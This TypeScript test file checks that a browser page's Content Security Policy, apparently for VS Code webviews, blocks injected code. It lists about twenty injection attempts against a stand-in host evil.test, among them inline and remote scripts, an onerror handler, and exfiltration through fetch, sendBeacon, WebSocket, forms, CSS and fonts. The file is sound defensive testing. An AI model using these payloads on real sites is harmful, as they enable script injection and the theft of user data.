// A page in a real browser under its own policy: injected code could neither run nor reach anything.
import assert from 'node:assert/strict';
import { pagePolicy } from '../../src/host/pagePolicy.ts';
import { openPageBrowser } from '../support/pageBrowser.ts';

const kinds = [
  { name: 'timeline', element: 'company-timeline' },
  { name: 'permissionGrid', element: 'permission-grid' },
];

/** The attempts of a text that became markup, as functions that the browser runs: each begins something, and none waits for it. */
const attempts: Readonly<Record<string, string>> = {
  'a picture': "document.body.append(Object.assign(new Image(), { src: 'https://evil.test/picture' }))",
  'a picture with a handler': 'document.body.insertAdjacentHTML(\'beforeend\', \'<img src="data:," onerror="evil = 1">\')',
  'a script of its own': "document.body.append(Object.assign(document.createElement('script'), { textContent: 'evil = 1' }))",
  'a script from elsewhere':
    "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.test/script' }))",
  'a script from its own folder, without the nonce':
    "document.body.append(Object.assign(document.createElement('script'), { src: '/evil.js' }))",
  'an import': "import('https://evil.test/import').catch(() => undefined)",
  'a text that is run': 'setTimeout("evil = 1")',
  'a request': "fetch('https://evil.test/fetch').catch(() => undefined)",
  'a request of the older kind': "{ const it = new XMLHttpRequest(); it.open('GET', 'https://evil.test/xhr'); it.send(); }",
  'a beacon': "navigator.sendBeacon('https://evil.test/beacon', 'token')",
  'a socket': "try { new WebSocket('wss://evil.test/socket'); } catch {}",
  'a frame': "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.test/frame' }))",
  'a style sheet': "document.body.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=https://evil.test/style>')",
  'a style of its own':
    "document.body.insertAdjacentHTML('beforeend', '<style>body { background: url(https://evil.test/back) }</style>')",
  'a font':
    "document.fonts.add(new FontFace('x', 'url(https://evil.test/font)')); document.fonts.load('1px x').catch(() => undefined)",
  'a form':
    "{ const it = document.createElement('form'); it.action = 'https://evil.test/form'; document.body.append(it); it.submit(); }",
  'another base': "document.head.insertAdjacentHTML('afterbegin', '<base href=https://evil.test/>')",
  'an object': "document.body.insertAdjacentHTML('beforeend', '<object data=https://evil.test/object></object>')",
  'a worker': "try { new Worker('https://page.test/evil.js'); } catch {}",
};

for (const kind of kinds) {
  describe(`the policy of the page ${kind.name}`, function () {
    let browser: Awaited<ReturnType<typeof openPageBrowser>>;

    before(async () => {
      browser = await openPageBrowser(kind);
    });
    after(() => browser.close());

    for (const [what, attempt] of Object.entries(attempts)) {
      it(`lets no ${what.replace(/^an? /, '')} in or out`, async () => {
        const { page, load, close } = await browser.open();
        const reached: string[] = [];
        await page.context().route(/evil/, (route) => {
          reached.push(route.request().url());
          return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'evil = 1' });
        });
        await load(() => undefined);
        await page.locator(kind.element).waitFor({ state: 'attached' });
        const blocked = page.evaluate(
          `new Promise((resolve) => { addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective)); setTimeout(resolve, 3000, ''); })`,
        );
        await page.evaluate(`{ ${attempt}; undefined }`);
        assert.notEqual(await blocked, '', 'the browser has blocked nothing');
        assert.deepEqual(reached, []);
        assert.equal(await page.evaluate('typeof evil'), 'undefined');
        assert.equal(await page.evaluate('document.baseURI'), 'https://page.test/');
        await close();
      });
    }
  });
}

describe('the policy of the pages', () => {
  it('begins with nothing, and adds only what they have', () => {
    for (const draws of [false, true]) {
      const policy = pagePolicy({ nonce: 'once', source: 'https://*.vscode-cdn.net', draws });
      const directives = policy.split('; ').map((directive) => directive.split(' '));
      assert.deepEqual(directives[0], ['default-src', "'none'"]);
      assert.deepEqual(
        directives.map(([name]) => name),
        ['default-src', 'script-src', 'style-src', ...(draws ? ['img-src'] : []), 'base-uri', 'form-action'],
      );
      assert.ok(!/unsafe|\*(?!\.vscode-cdn)|data:|http:/.test(policy), policy);
      assert.match(policy, /script-src 'nonce-once';/);
    }
  });
});
